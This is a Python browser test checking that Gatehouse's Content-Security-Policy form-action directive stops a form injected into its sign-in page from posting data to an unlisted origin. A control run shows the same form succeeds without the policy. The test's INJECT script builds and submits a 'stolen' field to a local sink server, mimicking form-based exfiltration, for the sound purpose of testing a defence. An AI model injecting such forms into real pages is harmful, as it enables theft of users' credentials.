"""CSP `form-action` in Chromium: a form injected into Gatehouse's sign-in page that posts to an origin the policy does
not list is not submitted (Chromium reports a `form-action` violation and the target receives nothing); the same form
on a page without Gatehouse's policy reaches the target, so the block is the policy's."""
import http.server
import threading
import time
import urllib.request

import pytest

from conftest import make_browser

INJECT = """
const form = document.createElement("form");
form.method = "post"; form.action = arguments[0];
const field = document.createElement("input"); field.name = "stolen"; field.value = "x"; form.appendChild(field);
document.body.appendChild(form);
window.__violations = [];
document.addEventListener("securitypolicyviolation", e => window.__violations.push(e.violatedDirective + " " + e.blockedURI));
form.submit();
"""


@pytest.fixture
def sink():
    """A plain HTTP server on another origin that records the POSTs it receives."""
    received = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200); self.send_header("Content-Type", "text/html"); self.end_headers()
            self.wfile.write(b"<!doctype html><title>sink</title><body>sink</body>")

        def do_POST(self):
            received.append(self.rfile.read(int(self.headers.get("Content-Length", 0))).decode())
            self.send_response(200); self.send_header("Content-Type", "text/html"); self.end_headers()
            self.wfile.write(b"<!doctype html><title>posted</title><body>posted</body>")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://localhost:{server.server_address[1]}", received
    server.shutdown()


def test_a_form_posting_to_an_unlisted_origin_is_blocked(gatehouse, sink):
    url, received = sink
    driver = make_browser()
    try:
        policy = urllib.request.urlopen(gatehouse.url + "/sign-in").headers["Content-Security-Policy"]
        assert "form-action 'self'" in policy and url not in policy
        driver.get(gatehouse.url + "/sign-in")
        driver.execute_script(INJECT, url + "/collect")
        deadline = time.time() + 5
        violations = []
        while time.time() < deadline and not violations:
            violations = driver.execute_script("return window.__violations || []")
            time.sleep(0.1)
        time.sleep(1)   # time for a submission that was not blocked to arrive
        assert any(v.startswith("form-action") for v in violations), violations
        assert received == []
        assert driver.current_url.startswith(gatehouse.url + "/sign-in")

        # Control: the same form on a page without Gatehouse's policy is submitted.
        driver.get(url + "/")
        driver.execute_script(INJECT, url + "/collect")
        deadline = time.time() + 10
        while time.time() < deadline and not received:
            time.sleep(0.1)
        assert received == ["stolen=x"]
    finally:
        driver.quit()
